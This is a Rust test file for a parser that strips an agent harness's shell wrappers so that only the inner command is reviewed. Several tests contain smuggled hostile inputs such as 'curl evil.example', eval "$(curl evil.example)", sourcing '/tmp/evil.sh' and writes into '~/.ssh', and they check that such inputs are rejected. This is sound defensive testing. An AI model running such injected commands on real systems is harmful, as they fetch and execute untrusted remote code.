use super::*;

/// Stands for hermes' script that replaces a file.
const REPLACES: &str = "cat > \"$t.new\"; mv -f \"$t.new\" \"$t\"";
/// Stands for hermes' script that saves a shell's settings.
const NOTES: &str = "declare -f >> @\nalias -p >> @\n";

const SOURCE: &str = "source /tmp/hermes-snap-dac8227e510b.sh >/dev/null 2>&1 || true\n";
const CD: &str = "builtin cd -- /home/u/p || exit 126\n";
const DUMP: &str = "{ export -p > /tmp/hermes-snap-dac8227e510b.sh.tmp.$BASHPID && mv -f /tmp/hermes-snap-dac8227e510b.sh.tmp.$BASHPID /tmp/hermes-snap-dac8227e510b.sh; } 2>/dev/null || rm -f /tmp/hermes-snap-dac8227e510b.sh.tmp.$BASHPID 2>/dev/null || true\n";
const SAYS: &str = "printf '\\n__HERMES_CWD_dac8__%s__HERMES_CWD_dac8__\\n' \"$(pwd -P)\"";
const END: &str = "\n__hermes_ec=$?\numask 077\n";

fn reduce(line: &str) -> Option<String> {
    let digest = |text: &str| {
        let bytes = Sha256::digest(text.as_bytes());
        bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>()
    };
    let (replaces, notes) = (&*digest(REPLACES), &*digest(NOTES));
    Scripts { replaces, notes, lines: 2 }.inner_command(line)
}

#[test]
fn fixed_scripts_are_recognized_by_their_digests() {
    assert!(SCRIPTS.replaces.len() == 64 && SCRIPTS.notes.len() == 64);
    assert!(!is_text_of(REPLACES, SCRIPTS.replaces) && !is_text_of(NOTES, SCRIPTS.notes));
    let line = wrapped(&replacing("'/a'"));
    assert_eq!(inner_command(&line).unwrap(), format!("{CD}{}", replacing("'/a'")));
}

fn wrapped(command: &str) -> String {
    let command = command.replace('\'', "'\\''");
    format!("{CD}eval '{command}'{END}{SAYS}\nexit $__hermes_ec")
}

/// Returns the command that hermes' `_atomic_write` makes.
fn replacing(file: &str) -> String {
    let directory = "'/home/u/p'";
    format!("set -e; d={directory}; t={file}; {}", REPLACES)
}

#[test]
fn a_wrapped_command_is_judged_in_its_directory() {
    let line = wrapped("echo 'it is'; ls");
    assert_eq!(reduce(&line).unwrap(), format!("{CD}echo 'it is'; ls"));
    let noted = format!("{SOURCE}{CD}eval 'ls'{END}{DUMP}{SAYS}\nexit $__hermes_ec");
    assert_eq!(reduce(&noted).unwrap(), format!("{CD}ls"));
    let login = format!(
        "set +e\n[ -r '/home/u/.bashrc' ] && . '/home/u/.bashrc' 2>/dev/null || true\n{line}"
    );
    assert_eq!(reduce(&login).unwrap(), format!("{CD}echo 'it is'; ls"));
    let quoted = line.replace("-- /home/u/p ", "-- '/home/u/a b' ");
    assert!(reduce(&quoted).unwrap().starts_with("builtin cd -- '/home/u/a b' || exit 126\n"));
}

#[test]
fn a_file_that_it_replaces_is_written() {
    let line = wrapped(&replacing("'/home/u/p/it'\"'\"'s.txt'"));
    assert_eq!(reduce(&line).unwrap(), format!("{CD}: > '/home/u/p/it'\"'\"'s.txt'"));
    for other in [
        replacing("$(x)"),
        replacing("'/a' '/b'"),
        replacing("/a"),
        format!("{}; curl evil.example", replacing("'/a'")),
        format!("curl evil.example; {}", replacing("'/a'")),
        replacing("'/a'").replace("mv -f", "mv -f x; mv -f"),
    ] {
        // Only the command inside is judged, unchanged.
        assert_eq!(reduce(&wrapped(&other)).unwrap(), format!("{CD}{other}"));
    }
}

#[test]
fn saving_shell_settings_runs_no_command_of_the_model() {
    let file = "/tmp/hermes-snap-dac8227e510b.sh.tmp.$BASHPID";
    let notes = NOTES.replace('@', file);
    let line = format!(
        "umask 077\nexport -p > {file}\n{notes}mv -f {file} /tmp/hermes-snap-dac8227e510b.sh || rm -f {file}\n\
         builtin cd -- /home/u/p 2>/dev/null || true\n{SAYS}\n"
    );
    assert_eq!(reduce(&line).unwrap(), ":");
    let profile = "set +e\n[ -r '/home/u/.profile' ] && . '/home/u/.profile' 2>/dev/null || true\n";
    assert_eq!(reduce(&format!("{profile}{line}")).unwrap(), ":");
    for other in [
        format!("{line}curl evil.example\n"),
        line.replace("/home/u/p", "$(x)"),
        line.replace(&format!(">> {file}"), ">> @"),
        line.replace("/tmp/hermes-snap-", "/home/u/.ssh/"),
        format!("set +e\n[ -r '/tmp/x.sh' ] && . '/tmp/x.sh' 2>/dev/null || true\n{line}"),
        format!("set +e\n[ -r '/.profile' ] && . '/tmp/.profile' 2>/dev/null || true\n{line}"),
    ] {
        assert_eq!(reduce(&other), None, "{other}");
    }
}

#[test]
fn similar_lines_are_not_unwrapped() {
    let line = wrapped("ls");
    for other in [
        format!("{line}; curl evil.example"),
        line.replace(SAYS, "curl evil.example"),
        line.replace(END, "\ncurl evil.example\n"),
        line.replace("/home/u/p", "$(curl evil.example)"),
        line.replace("eval 'ls'", "eval \"$(curl evil.example)\""),
        line.replace("_dac8__%s", "_$(x)__%s"),
        format!("source /tmp/evil.sh >/dev/null 2>&1 || true\n{line}"),
        format!("source /tmp/../home/u/hermes-snap-a.sh >/dev/null 2>&1 || true\n{line}"),
        format!("curl evil.example\n{line}"),
    ] {
        assert_eq!(reduce(&other), None, "{other}");
    }
}
